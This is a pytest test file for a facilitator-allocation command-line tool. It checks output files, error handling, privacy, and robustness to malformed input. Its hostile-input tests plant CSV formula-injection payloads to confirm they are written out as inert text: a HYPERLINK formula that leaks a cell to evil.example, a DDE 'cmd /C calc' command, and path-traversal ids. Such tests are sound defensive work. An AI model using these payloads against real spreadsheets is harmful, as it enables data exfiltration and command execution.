"""End-to-end tests of the batch commands, ``jags allocate`` and ``jags explain``
(:mod:`jags.cli_batch`): what a Business Unit administrator relies on.

Every command goes through the real Typer app (``jags.cli.app``) on the bundled sample
workspace (or a corrupted copy of it, or a tiny generated one): the contract files and the
summary, bad and hostile input (exit 2, file, row and column named, nothing written, no
private value repeated), and properties: whatever is in the files, success or exit 2, never
a traceback. The allocation of the sample is run once and shared (``allocated``, in
conftest).
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
from collections import Counter
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from cli_helpers import (
    ON,
    PROPERTY,
    SAMPLE,
    TINY,
    apply_changes,
    assert_clean_failure,
    assert_exit_0_or_2,
    changed_cells,
    copy_sample,
    header,
    jags,
    leaks,
    private_values,
    read_csv,
    sample_rows,
    set_cell,
    snapshot,
    tiny_tables,
    write_tables,
)
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import Result

from allocator import WorkingCalendar

ALLOCATION_COLUMNS = ["request_id", "facilitator_id", "role", "status", "allocate_by", "reason"]
EXPLANATION_COLUMNS = ["request_id", "facilitator_id", "eligible", "code", "detail"]
STATUS_COLUMNS = ["facilitator_id", "code", "detail", "open_load", "max_open"]


# jags allocate ---------------------------------------------------------------------------


def test_allocate_writes_contract_files(allocated: tuple[Result, Path]) -> None:
    _, out = allocated
    assert sorted(p.name for p in out.iterdir()) == [
        "allocations.csv",
        "explanations.csv",
        "facilitator_status.csv",
    ]
    assert header(out / "allocations.csv") == [
        *ALLOCATION_COLUMNS,
        "rationale",
        "code",
        "batch_date",
        "facilitator_name",
        "facilitator_email",
        "requester_email",
    ]
    assert header(out / "explanations.csv") == EXPLANATION_COLUMNS
    assert header(out / "facilitator_status.csv") == STATUS_COLUMNS


def test_allocate_one_row_per_request_and_every_pair_explained(
    allocated: tuple[Result, Path],
) -> None:
    _, out = allocated
    rows = read_csv(out / "allocations.csv")
    request_ids = [r["request_id"] for r in sample_rows("requests")]
    facilitator_ids = [f["facilitator_id"] for f in sample_rows("facilitators")]
    assert Counter(r["request_id"] for r in rows) == Counter(request_ids)
    for row in rows:
        assert row["status"] in ("allocated", "pinned", "unallocated")
        assert (row["facilitator_id"] == "") == (row["status"] == "unallocated")
        assert row["role"] == ""  # one facilitator per request under the Norfolk policy
        assert date.fromisoformat(row["allocate_by"])
        assert row["reason"].strip()
    # Every facilitator is accounted for, for every request: excluded facilitator-wide
    # (facilitator_status.csv), or by a rule about the case, or eligible with the stage
    # at which another choice won (one row each, or one row for a waiting request).
    status = {s["facilitator_id"]: s for s in read_csv(out / "facilitator_status.csv")}
    assert sorted(status) == sorted(facilitator_ids)
    available = {f for f, s in status.items() if s["code"] == "available"}
    explanations = read_csv(out / "explanations.csv")
    assert {e["eligible"] for e in explanations} <= {"true", "false"}
    for rid in request_ids:
        mine = [e for e in explanations if e["request_id"] == rid]
        named = {e["facilitator_id"] for e in mine if e["facilitator_id"]}
        by_org = {
            f
            for e in mine
            if not e["facilitator_id"] and not json_bool(e["eligible"])
            for f in e["detail"].split(": ", 1)[1].split()
        }
        assert not named & by_org
        waiting = [e for e in mine if not e["facilitator_id"] and json_bool(e["eligible"])]
        counted = int(re.findall(r"\d+", waiting[0]["detail"])[0]) if waiting else 0
        assert len(available - named - by_org) == counted, rid
    given = {(r["request_id"], r["facilitator_id"]) for r in rows if r["facilitator_id"]}
    chosen = {
        (e["request_id"], e["facilitator_id"])
        for e in explanations
        if e["code"] in ("chosen", "pinned")
    }
    assert chosen == given  # nobody is given a request a hard rule excludes them from


def json_bool(text: str) -> bool:
    return {"true": True, "false": False}[text]


def test_allocate_explain_full_lists_every_pair_once(tmp_path: Path) -> None:
    result = jags("allocate", SAMPLE, "--on", ON, "--out", tmp_path, "--explain", "full")
    assert result.exit_code == 0, result.output
    request_ids = [r["request_id"] for r in sample_rows("requests")]
    facilitator_ids = [f["facilitator_id"] for f in sample_rows("facilitators")]
    explanations = read_csv(tmp_path / "explanations.csv")
    pairs = Counter((e["request_id"], e["facilitator_id"]) for e in explanations)
    assert len(explanations) == len(request_ids) * len(facilitator_ids)
    assert set(pairs) == {(r, f) for r in request_ids for f in facilitator_ids}
    assert set(pairs.values()) == {1}
    eligible = {(e["request_id"], e["facilitator_id"]): e["eligible"] for e in explanations}
    for row in read_csv(tmp_path / "allocations.csv"):
        if row["facilitator_id"]:
            assert eligible[row["request_id"], row["facilitator_id"]] == "true"


def test_allocate_refuses_an_unknown_explain_option(tmp_path: Path) -> None:
    result = jags("allocate", SAMPLE, "--on", ON, "--out", tmp_path, "--explain", "some")
    assert result.exit_code == 2
    assert "--explain" in result.stderr
    assert not tmp_path.exists() or not any(tmp_path.iterdir())


def test_allocate_summary_matches_the_files(allocated: tuple[Result, Path]) -> None:
    result, out = allocated
    rows = read_csv(out / "allocations.csv")
    statuses = Counter(r["status"] for r in rows)
    lines = result.stdout.splitlines()
    # The summary first, in words.
    match = re.fullmatch(
        r"Allocation for Mon 23 Nov 2026 \(norfolk policy\): (\d+) of (\d+) "
        r"requests allocated; (\d+) waiting, none of them past their "
        r"allocate-by date\.",
        lines[0],
    )
    assert match, result.stdout
    given, total, waiting = map(int, match.groups())
    assert total == len(rows)
    assert given == statuses["allocated"] + statuses["pinned"]
    assert waiting == statuses["unallocated"]
    assert (
        lines[1] == f"{statuses['pinned']} kept the facilitator named for them or their "
        "follow-up's facilitator."
    )
    # Then the waiting requests, each with the first sentence of its reason.
    assert lines[2] == f"Waiting ({waiting}), oldest first:"
    for line, row in zip(
        lines[3 : 3 + waiting], [r for r in rows if r["status"] == "unallocated"], strict=True
    ):
        due = date.fromisoformat(row["allocate_by"])
        assert line.startswith(f"  {row['request_id']} (allocate by {due:%a %d %b}): ")
        assert row["reason"].startswith("Waiting: " + line.split("): ", 1)[1].rstrip("."))
    # Then the requests allocated late, counted and named (the first ten).
    late = [r["request_id"] for r in rows if r["status"] != "unallocated" and r["allocate_by"] < ON]
    assert lines[3 + waiting] == (
        f"Allocated after their allocate-by date ({len(late)}): "
        f"{', '.join(late[:10])} and {len(late) - 10} more."
    )
    assert lines[-1] == f"Files: {out} (allocations.csv, explanations.csv, facilitator_status.csv)"
    # Everything else is in the files: a screen, not a table of every request.
    assert len(lines) <= 12 and max(map(len, lines)) <= 160
    assert "stage_" not in result.stdout and "R-0011" not in result.stdout


def test_allocate_uk_date_gives_identical_files(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    result = jags("allocate", SAMPLE, "--on", "23/11/2026", "--out", tmp_path / "uk")
    assert result.exit_code == 0, result.output
    assert snapshot(tmp_path / "uk") == snapshot(allocated[1])


def test_allocate_twice_gives_identical_files(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    result = jags("allocate", SAMPLE, "--on", ON, "--out", tmp_path / "again")
    assert result.exit_code == 0, result.output
    assert snapshot(tmp_path / "again") == snapshot(allocated[1])


def test_allocate_xlsx_is_stable_and_readable(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    for name in ("one", "two"):
        result = jags("allocate", SAMPLE, "--on", ON, "--format", "xlsx", "--out", tmp_path / name)
        assert result.exit_code == 0, result.output
    one, two = snapshot(tmp_path / "one"), snapshot(tmp_path / "two")
    assert sorted(one) == [
        "allocations.csv",
        "allocations.xlsx",
        "explanations.csv",
        "facilitator_status.csv",
    ]
    assert one == two
    assert {k: v for k, v in one.items() if k.endswith(".csv")} == snapshot(allocated[1])
    book = openpyxl.load_workbook(tmp_path / "one" / "allocations.xlsx", read_only=True)
    try:
        assert book.sheetnames == ["Summary", "Allocations", "Explanations", "Facilitators"]
        sheet_rows = list(book["Allocations"].iter_rows(values_only=True))
        csv_rows = read_csv(allocated[1] / "allocations.csv")
        assert list(sheet_rows[0])[:6] == ALLOCATION_COLUMNS
        assert [r[0] for r in sheet_rows[1:]] == [r["request_id"] for r in csv_rows]
        assert [r[1] or "" for r in sheet_rows[1:]] == [r["facilitator_id"] for r in csv_rows]
        explanations = list(book["Explanations"].iter_rows(values_only=True))
        assert len(explanations) - 1 == len(read_csv(allocated[1] / "explanations.csv"))
        facilitators = list(book["Facilitators"].iter_rows(values_only=True))
        assert len(facilitators) - 1 == len(read_csv(allocated[1] / "facilitator_status.csv"))
        summary = {r[0]: r[1] for r in book["Summary"].iter_rows(values_only=True) if len(r) > 1}
        assert summary["Policy"] == "norfolk"
        assert summary["Requests"] == (
            "23 of 25 requests allocated; 2 waiting, none of them past their allocate-by date."
        )
    finally:
        book.close()


def test_allocate_bedfordshire_gives_a_lead_and_a_co(tmp_path: Path) -> None:
    result = jags("allocate", SAMPLE, "--on", ON, "--policy", "bedfordshire", "--out", tmp_path)
    assert result.exit_code == 0, result.output
    organisation = {f["facilitator_id"]: f["organisation"] for f in sample_rows("facilitators")}
    lead_ok = {f["facilitator_id"]: f["can_lead"] != "false" for f in sample_rows("facilitators")}
    by_request: dict[str, list[dict[str, str]]] = {}
    for row in read_csv(tmp_path / "allocations.csv"):
        by_request.setdefault(row["request_id"], []).append(row)
    assert set(by_request) == {r["request_id"] for r in sample_rows("requests")}
    given = 0
    for rid, rows in by_request.items():
        if rows[0]["status"] == "unallocated":
            assert len(rows) == 1 and rows[0]["facilitator_id"] == "", rid
            continue
        given += 1
        assert sorted(r["role"] for r in rows) == ["co", "lead"], rid
        lead, co = sorted(rows, key=lambda r: r["role"] != "lead")
        assert lead["facilitator_id"] != co["facilitator_id"]
        assert organisation[lead["facilitator_id"]] != organisation[co["facilitator_id"]], rid
        assert lead_ok[lead["facilitator_id"]], rid
    assert given > 0


def test_allocate_reads_a_policy_file(allocated: tuple[Result, Path], tmp_path: Path) -> None:
    policy = tmp_path / "slower.toml"
    policy.write_text(
        'base = "norfolk"\nname = "slower-norfolk"\nallocate_within_days = 5\n', encoding="utf-8"
    )
    result = jags("allocate", SAMPLE, "--on", ON, "--policy", policy, "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert "slower-norfolk policy" in result.stdout
    norfolk = {
        r["request_id"]: r["allocate_by"] for r in read_csv(allocated[1] / "allocations.csv")
    }
    slower = {
        r["request_id"]: r["allocate_by"] for r in read_csv(tmp_path / "out" / "allocations.csv")
    }
    calendar = WorkingCalendar()
    for rid, due in norfolk.items():  # three more working days to allocate each request
        assert slower[rid] == calendar.add_working_days(date.fromisoformat(due), 3).isoformat()


# Bad input: exit 2, file, row and column named, nothing written --------------------------


def _missing_file(ws: Path) -> None:
    (ws / "facilitators.csv").unlink()


def _missing_column(ws: Path) -> None:
    path = ws / "facilitators.csv"
    path.write_text(path.read_text("utf-8").replace(",sector,", ",sektor,", 1), "utf-8")


def _duplicate_id(ws: Path) -> None:
    path = ws / "facilitators.csv"
    lines = path.read_text("utf-8").splitlines(keepends=True)
    path.write_text("".join([*lines, lines[2]]), "utf-8")  # F002 again, as row 42


def _unknown_reference(ws: Path) -> None:
    set_cell(ws / "participants.csv", 5, "request_id", "R-9999")


def _impossible_date(ws: Path) -> None:
    set_cell(ws / "facilitators.csv", 4, "trained_on", "31/02/2026")


def _not_a_number(ws: Path) -> None:
    set_cell(ws / "facilitators.csv", 3, "max_open", "three")


def _binary_garbage(ws: Path) -> None:
    (ws / "requests.csv").write_bytes(bytes(range(256)) * 20)


BAD_WORKSPACES = {
    "missing file": (_missing_file, ["facilitators.csv", "not found"]),
    "missing column": (_missing_column, ["facilitators.csv, column sector: required column"]),
    "duplicate id": (
        _duplicate_id,
        ["facilitators.csv, row 42, column facilitator_id", "duplicate"],
    ),
    "unknown reference": (
        _unknown_reference,
        ["participants.csv, row 5, column request_id", "R-9999"],
    ),
    "impossible date": (
        _impossible_date,
        ["facilitators.csv, row 4, column trained_on", "31/02/2026"],
    ),
    "not a number": (_not_a_number, ["facilitators.csv, row 3, column max_open", "three"]),
    "binary file": (_binary_garbage, ["requests.csv:"]),
}


@pytest.mark.parametrize("case", list(BAD_WORKSPACES))
def test_bad_workspace_is_refused_and_nothing_written(case: str, tmp_path: Path) -> None:
    corrupt, expected = BAD_WORKSPACES[case]
    workspace = copy_sample(tmp_path)
    corrupt(workspace)
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert_clean_failure(result, out, *expected)
    assert result.stdout == ""
    assert sorted(p.name for p in tmp_path.iterdir()) == ["workspace"]  # no staging left


def test_every_error_in_a_file_is_reported(tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    _not_a_number(workspace)
    _impossible_date(workspace)
    set_cell(workspace / "facilitators.csv", 6, "can_lead", "perhaps")
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert_clean_failure(
        result,
        out,
        "facilitators.csv, row 3, column max_open",
        "facilitators.csv, row 4, column trained_on",
        "facilitators.csv, row 6, column can_lead",
    )


def test_bad_input_leaves_an_existing_output_folder_unchanged(tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "allocations.csv").write_bytes(b"yesterday's allocations\n")
    (out / "notes.txt").write_bytes(b"mine")
    before = snapshot(out)
    _duplicate_id(workspace)
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert result.exit_code == 2
    assert snapshot(out) == before


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["--on", "31/02/2026"], ["--on", "31/02/2026"]),
        (["--on", "11/23/2026"], ["--on", "11/23/2026"]),  # never read as a US date
        (["--on", ON, "--policy", "nowhere"], ["nowhere", "norfolk", "bedfordshire"]),
        (["--on", ON, "--format", "pdf"], ["--format", "pdf"]),
    ],
)
def test_bad_options_are_refused(args: list[str], expected: list[str], tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = jags("allocate", SAMPLE, *args, "--out", out)
    assert_clean_failure(result, out, *expected)


def test_output_folder_that_is_a_file_is_an_error_not_a_traceback(tmp_path: Path) -> None:
    target = tmp_path / "out"
    target.write_bytes(b"not a folder")
    result = jags("allocate", SAMPLE, "--on", ON, "--out", target)
    assert result.exit_code != 0
    assert isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    assert "not a folder" in result.stderr
    assert target.read_bytes() == b"not a folder"


# Privacy ---------------------------------------------------------------------------------


def test_allocate_output_never_shows_case_details(allocated: tuple[Result, Path]) -> None:
    result, out = allocated
    assert private_values()  # the check below is not vacuous
    assert leaks(result.stdout) == []
    assert leaks(result.stderr) == []
    assert leaks(" ".join(p.name for p in out.rglob("*"))) == []


def test_error_output_never_shows_a_case_reference(tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    requests = workspace / "requests.csv"
    set_cell(requests, 2, "received_at", "31/02/2026 10:00")
    set_cell(requests, 3, "requester_email", "not-an-email")
    set_cell(requests, 4, "mode", "carrier pigeon")
    set_cell(requests, 5, "follow_up_of", "H-9999")
    set_cell(requests, 6, "case_ref", "")
    with requests.open("a", encoding="utf-8") as handle:  # R-0002 twice
        handle.write(requests.read_text("utf-8").splitlines()[2] + "\n")
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert_clean_failure(
        result,
        out,
        "requests.csv, row 2, column received_at",
        "requests.csv, row 3, column requester_email",
        "requests.csv, row 4, column mode",
        "requests.csv, row 5, column follow_up_of",
        "requests.csv, row 6, column case_ref",
    )
    assert leaks(result.output) == []


# jags explain ----------------------------------------------------------------------------


def test_explain_gives_the_reason_and_why_not(allocated: tuple[Result, Path]) -> None:
    result = jags("explain", SAMPLE, "R-0024", "--on", ON)
    assert result.exit_code == 0, result.output
    reason = {r["request_id"]: r["reason"] for r in read_csv(allocated[1] / "allocations.csv")}
    lines = result.stdout.splitlines()
    assert lines[0].startswith("R-0024: ")
    assert " ".join(result.stdout.split()).startswith(f"R-0024: {reason['R-0024']}")
    assert any("at capacity" in line for line in lines)
    assert any("share an organisation" in line for line in lines)
    # every excluded facilitator is accounted for, each on a grouped or single line
    ids = {f["facilitator_id"] for f in sample_rows("facilitators")}
    mentioned = set(re.findall(r"\bF\d{3}\b", result.stdout))
    assert mentioned == ids
    assert leaks(result.output) == []
    # the stage at which another choice won, in words (the code is in explanations.csv)
    assert "stage_" not in result.stdout
    assert any(
        line.endswith("(places went to R-0005): older requests come first") for line in lines
    )


def test_explain_in_the_old_form_still_works_with_a_note() -> None:
    new = jags("explain", SAMPLE, "R-0010", "--on", ON)
    old = jags("explain", "R-0010", "--workspace", SAMPLE, "--on", ON)
    assert new.exit_code == old.exit_code == 0, old.output
    assert old.stdout == new.stdout
    assert "deprecated; use 'jags explain W REQUEST'" in old.stderr
    assert new.stderr == ""
    both = jags("explain", SAMPLE, "R-0010", "--workspace", SAMPLE, "--on", ON)
    assert both.exit_code == 2 and "not both" in both.stderr
    missing = jags("explain", SAMPLE, "--on", ON)
    assert missing.exit_code == 2 and "jags explain WORKSPACE REQUEST --on DATE" in missing.stderr


def test_explain_pinned_request_keeps_the_rationale_private() -> None:
    result = jags("explain", SAMPLE, "R-0010", "--on", ON)
    assert result.exit_code == 0, result.output
    assert "F029" in result.stdout and "Pinned" in result.stdout
    assert leaks(result.output) == []


def test_explain_unknown_request_is_a_clear_error() -> None:
    result = jags("explain", SAMPLE, "R-9999", "--on", ON)
    assert result.exit_code == 2
    assert isinstance(result.exception, SystemExit)
    assert "R-9999" in result.stderr and "not in" in result.stderr
    assert "Traceback" not in result.output


# jags allocate --calendar-aware ----------------------------------------------------------


def test_calendar_aware_allocate_strict_names_the_unreadable_calendar(tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    facilitator = sample_rows("facilitators")[0]["email"]
    export = workspace / "calendars" / f"{facilitator}.ics"
    export.write_bytes(b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nEND:VCALENDAR\r\n")
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out, "--calendar-aware", "--strict")
    assert_clean_failure(result, out, f"calendars/{facilitator}.ics, line 3")
    relaxed = jags(
        "allocate", workspace, "--on", ON, "--out", out, "--calendar-aware", "--no-cache"
    )
    assert relaxed.exit_code == 0, relaxed.output


# Hostile input: formulas, unsafe ids, private values in the wrong column, huge numbers ---


FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
TEXT_COLUMNS = {
    "facilitators": ("name", "organisation", "sector", "locality", "specialisms"),
    "requests": (
        "requester_name",
        "requester_organisation",
        "case_ref",
        "family_ref",
        "locality",
        "topic",
        "preference_rationale",
    ),
    "participants": ("name", "organisation"),
    "involvements": ("note",),
}
ID_COLUMNS = {
    "facilitators": ("facilitator_id",),
    "requests": ("request_id", "preferred_facilitator_id", "follow_up_of"),
    "participants": ("request_id",),
    "history": ("request_id", "facilitator_id"),
}


def every_cell(out: Path) -> list[str]:
    """Every CSV cell (as a CSV reader gives it) under ``out``."""
    return [
        cell
        for path in sorted(out.rglob("*.csv"))
        for row in csv.reader(io.StringIO(path.read_text("utf-8"), newline=""))
        for cell in row
    ]


@pytest.mark.parametrize("prefix", FORMULA_START)
def test_hostile_text_is_never_a_formula(prefix: str, tmp_path: Path) -> None:
    tables = tiny_tables()
    for name, columns in TEXT_COLUMNS.items():
        head, rows = tables[name]
        for row in rows:
            for column in columns:
                row[head.index(column)] = f'{prefix}HYPERLINK("http://evil.example/?"&B2,"x")'
    head, rows = tables["requests"]
    rows[0][head.index("preference_rationale")] = f"{prefix}cmd|' /C calc'!A0"
    workspace = write_tables(tmp_path / "ws", tables)
    policy = tmp_path / "policy.toml"
    policy.write_text(
        f'base = "norfolk"\nname = "{prefix.encode("unicode_escape").decode()}SUM(1+1)"\n', "utf-8"
    )
    out = tmp_path / "out"
    result = jags(
        "allocate", workspace, "--on", ON, "--format", "xlsx", "--policy", policy, "--out", out
    )
    assert result.exit_code == 0, result.output
    sessions = tmp_path / "sessions"
    result = jags(
        "schedule",
        workspace,
        "--allocations",
        out / "allocations.csv",
        "--confirmed-on",
        "2026-11-30",
        "--out",
        sessions,
    )
    assert result.exit_code == 0, result.output
    cells = every_cell(out) + every_cell(sessions)
    assert not [
        c for c in cells if c.startswith(FORMULA_START) and not re.fullmatch(r"-\d+(\.\d+)?", c)
    ]
    if not prefix.isspace():  # (leading spaces, tabs and line breaks are trimmed on reading)
        assert f"'{prefix}cmd|' /C calc'!A0" in cells  # the pinned rationale, as text
        assert any(c.startswith(f"'{prefix}HYPERLINK") for c in cells)  # a participant's name
    book = openpyxl.load_workbook(out / "allocations.xlsx")  # not read-only: formulas kept
    hostile = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)
    ]
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert all(c.data_type == "s" for c in hostile)
    if not prefix.isspace():
        assert any(c.value == f"{prefix}cmd|' /C calc'!A0" for c in hostile)
        policy_row = next(row for row in book["Summary"].iter_rows() if row[0].value == "Policy")
        assert policy_row[1].value == f"{prefix}SUM(1+1)"
        assert policy_row[1].data_type == "s"


@pytest.mark.parametrize("prefix", FORMULA_START)
def test_ids_starting_with_a_formula_character_never_reach_an_output(
    prefix: str, tmp_path: Path
) -> None:
    tables = tiny_tables()
    ids = {row[0] for row in tables["facilitators"][1]} | {row[0] for row in tables["requests"][1]}
    ids |= {row[0] for row in tables["history"][1]}
    for head, rows in tables.values():
        for row in rows:
            for i, column in enumerate(head):
                if column in {c for cs in ID_COLUMNS.values() for c in cs} and row[i] in ids:
                    row[i] = prefix + row[i]  # the same id everywhere, so references match
    out = tmp_path / "out"
    result = jags(
        "allocate",
        write_tables(tmp_path / "ws", tables),
        "--on",
        ON,
        "--format",
        "xlsx",
        "--out",
        out,
    )
    if prefix.isspace():  # trimmed on reading: the ids are the plain ones
        assert result.exit_code == 0, result.output
        assert not [c for c in every_cell(out) if c.startswith(FORMULA_START)]
        book = openpyxl.load_workbook(out / "allocations.xlsx")
        assert not [
            c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"
        ]
    else:
        assert_clean_failure(
            result, out, "facilitators.csv, row 2, column facilitator_id: value is not a valid id"
        )


@pytest.mark.parametrize(("table", "column"), [(t, c) for t, cs in ID_COLUMNS.items() for c in cs])
@pytest.mark.parametrize(
    "text", ["a/b", "../../x", '=HYPERLINK("x")', "@R1", "-F1", "Jayden Smith (DOB 01/02/2015)"]
)
def test_unsafe_ids_are_refused_with_exit_2(
    table: str, column: str, text: str, tmp_path: Path
) -> None:
    tables = tiny_tables()
    head, rows = tables[table]
    row = (
        next(i for i, r in enumerate(rows) if r[head.index(column)])
        if column in ("preferred_facilitator_id", "follow_up_of")
        else 0
    )
    rows[row][head.index(column)] = text
    out = tmp_path / "out"
    result = jags("allocate", write_tables(tmp_path / "ws", tables), "--on", ON, "--out", out)
    assert_clean_failure(
        result, out, f"{table}.csv, row {row + 2}, column {column}: value is not a valid id"
    )
    assert text not in result.output and "Jayden" not in result.output


def test_a_child_name_in_an_id_column_is_never_repeated(tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    set_cell(
        workspace / "requests.csv", 3, "preferred_facilitator_id", "Jayden Smith (DOB 01/02/2015)"
    )
    set_cell(workspace / "involvements.csv", 2, "facilitator_id", "Jayden Smith")
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert_clean_failure(
        result,
        out,
        "requests.csv, row 3, column preferred_facilitator_id: value is not",
        "involvements.csv, row 2, column facilitator_id: value is not",
    )
    assert "Jayden" not in result.output


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("51", "'51' is above the policy limit of 50 (max_open_limit)"),
        ("1" + "0" * 40, "value is too large a number"),
        ("10000000", "'10000000' is above the policy limit of 50"),
    ],
)
def test_capacity_beyond_sense_is_an_input_error(value: str, expected: str, tmp_path: Path) -> None:
    workspace = copy_sample(tmp_path)
    set_cell(workspace / "facilitators.csv", 3, "max_open", value)
    out = tmp_path / "out"
    result = jags("allocate", workspace, "--on", ON, "--out", out)
    assert_clean_failure(result, out, f"facilitators.csv, row 3, column max_open: {expected}")


# Property: whatever is in the files, the answer is success or exit 2, never a traceback ---


@pytest.mark.parametrize("table", sorted(name for name, (_, rows) in TINY.items() if rows))
@PROPERTY
@given(data=st.data())
def test_any_workspace_cell_gives_success_or_exit_2(
    table: str, data: st.DataObject, tmp_path: Path
) -> None:
    changes = data.draw(changed_cells(TINY, table))
    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
        workspace = write_tables(Path(folder) / "ws", apply_changes(TINY, changes))
        out = Path(folder) / "out"
        assert_exit_0_or_2(jags("allocate", workspace, "--on", ON, "--out", out), out)


@PROPERTY
@given(
    changes=changed_cells(TINY),
    types=st.lists(
        st.one_of(
            st.integers(),
            st.floats(allow_nan=True),
            st.booleans(),
            st.datetimes(),
            st.dates(),
            st.times(),
        ),
        min_size=4,
        max_size=4,
    ),
)
def test_any_workbook_cell_gives_success_or_exit_2(
    changes: list[tuple[str, int, int, str]], types: list[object], tmp_path: Path
) -> None:
    tables = apply_changes(TINY, changes)
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, (head, rows) in tables.items():
        sheet = book.create_sheet(name)
        for line in [head, *rows]:
            sheet.append([re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", c) for c in line])
    for (name, row, column, _), value in zip(changes, types, strict=False):
        book[name].cell(row + 2, column + 1, value)  # a typed cell, not text
    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
        path = Path(folder) / "ws.xlsx"
        book.save(path)
        out = Path(folder) / "out"
        assert_exit_0_or_2(jags("allocate", path, "--on", ON, "--out", out), out)


@PROPERTY
@given(data=st.binary(max_size=3000), table=st.sampled_from(sorted(TINY)))
def test_any_bytes_in_a_workspace_file_give_success_or_exit_2(
    data: bytes, table: str, tmp_path: Path
) -> None:
    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
        workspace = write_tables(Path(folder) / "ws", TINY)
        (workspace / f"{table}.csv").write_bytes(data)
        out = Path(folder) / "out"
        assert_exit_0_or_2(jags("allocate", workspace, "--on", ON, "--out", out), out)
        book = Path(folder) / "book.xlsx"
        book.write_bytes(b"PK\x03\x04" + data)
        assert_exit_0_or_2(jags("allocate", book, "--on", ON, "--out", out), out)


# Front-door details ------------------------------------------------------------------------


def test_allocate_refuses_to_replace_a_different_earlier_result(
    allocated: tuple[Result, Path], tmp_path: Path
) -> None:
    out = tmp_path / "today"
    first = jags("allocate", SAMPLE, "--on", ON, "--out", out)
    assert first.exit_code == 0, first.output
    before = snapshot(out)
    assert before == snapshot(allocated[1])
    again = jags("allocate", SAMPLE, "--on", ON, "--out", out)  # the same batch: fine
    assert again.exit_code == 0, again.output
    assert snapshot(out) == before
    other = jags("allocate", SAMPLE, "--on", "2026-11-20", "--out", out)  # another batch
    assert other.exit_code == 2
    assert other.stderr.startswith(
        f"error: {out} holds an earlier result that differs from "
        "this one; nothing was written. Add --force to replace it"
    )
    assert other.stdout == "" and "Traceback" not in other.output
    assert snapshot(out) == before
    xlsx = jags("allocate", SAMPLE, "--on", ON, "--format", "xlsx", "--out", out)  # adds a file
    assert xlsx.exit_code == 0, xlsx.output
    forced = jags("allocate", SAMPLE, "--on", "2026-11-20", "--out", out, "--force")
    assert forced.exit_code == 0, forced.output
    assert read_csv(out / "allocations.csv")[0]["batch_date"] == "2026-11-20"
    assert sorted(snapshot(out)) == [
        "allocations.csv",
        "explanations.csv",
        "facilitator_status.csv",
    ]


@pytest.mark.parametrize(
    ("day", "said", "why", "following"),
    [
        ("2026-11-21", "Saturday 21 November 2026", "a weekend", "Monday 23 November 2026"),
        (
            "25/12/2026",
            "Friday 25 December 2026",
            "Christmas Day, a bank holiday",
            "Tuesday 29 December 2026",
        ),
    ],
)
def test_allocate_on_a_non_working_day_is_refused_unless_forced(
    day: str, said: str, why: str, following: str, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    result = jags("allocate", SAMPLE, "--on", day, "--out", out)
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: --on: {said} is not a working day ({why}); the next "
        f"working day is {following}. Add --force to run the batch on it "
        f"anyway\n"
    )
    assert not out.exists()
    forced = jags("allocate", SAMPLE, "--on", day, "--out", out, "--force")
    assert forced.exit_code == 0, forced.output
    assert (out / "allocations.csv").is_file()


def test_a_policy_closure_day_is_not_a_working_day(tmp_path: Path) -> None:
    policy = tmp_path / "closed.toml"
    policy.write_text('base = "norfolk"\nclosure_days = [2026-11-23]\n', encoding="utf-8")
    result = jags("allocate", SAMPLE, "--on", ON, "--policy", policy, "--out", tmp_path / "o")
    assert result.exit_code == 2
    assert (
        "(a closure day in the policy); the next working day is Tuesday 24 November "
        "2026" in result.stderr
    )
